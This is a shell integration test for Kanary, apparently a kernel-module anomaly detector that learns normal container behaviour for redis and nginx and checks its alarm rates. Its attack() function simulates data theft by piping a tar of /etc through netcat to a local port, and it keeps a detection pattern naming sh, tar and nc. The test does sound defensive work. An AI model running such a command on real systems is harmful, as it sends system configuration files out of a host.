# SPDX-License-Identifier: GPL-2.0
# The whole of Kanary on one kernel, with two services, each in a real container:
#
#	service   --- requests -- restart -- requests ---- requests -- restart -- requests ---X
#	insmod      |------------------------------------------------------------------------|
#	record         |----------------------------|
#	train, load                                  |--|-----------|           |---------|
#	clock source                                    each that the kernel has
#	attack                                                                        tar /etc away
#	alert     . . . . . . . . . . . . . . . . . . . . . . . . . . . . . . . . . . . . |
#
# Where there is a folder models, they are of another kernel, and this one is held to them. Leaves
# models, recordings and what it saw, core.json, in /out.
. ./library.sh
. ./service.sh

CLOCK=/sys/devices/system/clocksource/clocksource0
# What runs in an attack, and never else.
INTRUDERS='sh|tar|nc'

above() {
	[ "$(counter "$1")" -gt "$2" ]
}

# alerts SERVICE COMM
alerts() {
	dmesg -t | grep -cE "^kanary: alert container=$1 .* comm=($2) " || :
}

alerted() {
	[ "$(alerts "$@")" -gt 0 ]
}

# record FILE SERVICE: in the background, until recorded
record() {
	kanary record -o "/out/$1" --container "$2" 2>record.said &
	recorder=$!
	await 20 grep -q ready record.said
}

recorded() {
	kill -INT "$recorder"
	wait "$recorder" || fail "$(cat record.said)"
}

# restart SERVICE: its end and its beginning
restart() {
	stop "$1"
	start "$1"
	await 60 "ready_$1"
}

# Two lives, with an end and a beginning between them
learn() {
	record "$1.rec" "$1"
	"use_$1" 400
	"use_$1" 400
	restart "$1"
	"use_$1" 400
	"use_$1" 400
	recorded
	[ ! -d models ] || return 0
	kanary train "/out/$1.rec" -o "/out/models/$1.model" --budget 1/100000 --hidden 8 --steps 8 \
		--epochs 10 >/dev/null 2>train.said || fail "$(cat train.said)"
}

watch_over() {
	kanary load "/out/models/$1.model" --container "$(identity "$1")"
}

# Normal use by each of the kernel's clocks
use_clocks() {
	local clock

	for clock in $(cat $CLOCK/available_clocksource); do
		echo "$clock" >$CLOCK/current_clocksource
		"use_$1" 100
	done
	echo "$clocksource" >$CLOCK/current_clocksource
}

attack() {
	crun exec "$1" sh -c "tar -c /etc | nc -w 1 127.0.0.1 ${PORT[$1]}" >/dev/null 2>&1 || :
	await 20 alerted "$1" "$INTRUDERS"
}

# keeps_promise SERVICE: as many alarms in normal use as its model promises, within what chance allows
keeps_promise() {
	kanary eval "/out/models/$1.model" --normal "/out/$1.test.rec" --json >promise.json 2>promise.said ||
		fail "$(cat promise.said)"
	[ "$(jq -r .promise promise.json)" != broken ] || fail "$1: the promise is broken: $(cat promise.json)"
}

# examine SERVICE: all of it; adds to what was seen
examine() {
	local before critical alarms vectors benign warned promised

	"build_$1"
	start "$1"
	await 60 "ready_$1"
	before=$(counter seen)
	"use_$1" 50
	await 20 above seen "$before"
	learn "$1"
	read -r before critical alarms <<<"$(counter scored alarms_critical alarms)"
	watch_over "$1"
	record "$1.test.rec" "$1"
	use_clocks "$1"
	recorded
	keeps_promise "$1"
	# No recording has seen the service end.
	await 20 judged "$(counter seen)"
	kanary unload --container "$(identity "$1")" 2>/dev/null
	restart "$1"
	watch_over "$1"
	record "$1.attack.rec" "$1"
	"use_$1" 100
	await 20 judged "$(counter seen)"
	read -r vectors benign warned <<<"$(counter scored alarms_critical alarms)"
	vectors=$((vectors - before)) benign=$((benign - critical)) warned=$((warned - alarms))
	promised=$(kanary containers --json | jq --argjson id "$(identity "$1")" --argjson vectors "$vectors" \
		'[.. | objects | select(.cgroup? == $id) | .profile.budget_vectors][0] | $vectors / . * 10 | round / 10')
	[ "$vectors" -gt 50 ] || fail "$vectors vectors of $1 were scored"
	[ "$benign" -le 1 ] ||
		fail "$1: $benign critical alarms of $vectors vectors where all is normal: $(dmesg -t | grep "alert container=$1" | grep -m 3 critical)"
	attack "$1"
	recorded
	stop "$1"
	seen=$(jq -c --arg name "$1" --argjson vectors "$vectors" --argjson benign "$benign" --argjson warned "$warned" \
		--argjson promised "$promised" --argjson attack "$(alerts "$1" "$INTRUDERS")" \
		'.[$name] = {vectors: $vectors, benign: $benign, warned: $warned, promised: $promised, attack: $attack}' <<<"$seen")
}

clocksource=$(cat $CLOCK/current_clocksource)
seen='{}'
mkdir -p /out/models
[ ! -d models ] || cp models/* /out/models/
[ -d models ] || uname -r >/out/models/kernel
insmod kanary.ko period=64 queue_length=4096
status=$(kanary status --json)
[ "$(jq -r .self_test <<<"$status")" = passed ] || fail "the self-test did not pass: $status"
examine redis
examine nginx
balanced
status=$(kanary status --json)
rmmod kanary
! grep -q ^kanary /proc/modules || fail "it is still loaded"
[ ! -s /sys/kernel/debug/kprobes/list ] || fail "kprobes are still there"
jq -c --argjson seen "$seen" --arg kernel "$(uname -r)" --arg trained "$(cat /out/models/kernel)" \
	--arg clock "$clocksource" --arg clocks "$(cat $CLOCK/available_clocksource)" \
	'{kernel: $kernel, trained: $trained, clock: $clock, clocks: $clocks, hook, self_test,
	seen: .counters.seen, scored: .counters.scored,
	missed: .counters.calls_missed, no_memory: .counters.calls_no_memory} + $seen' \
	<<<"$status" >/out/core.json
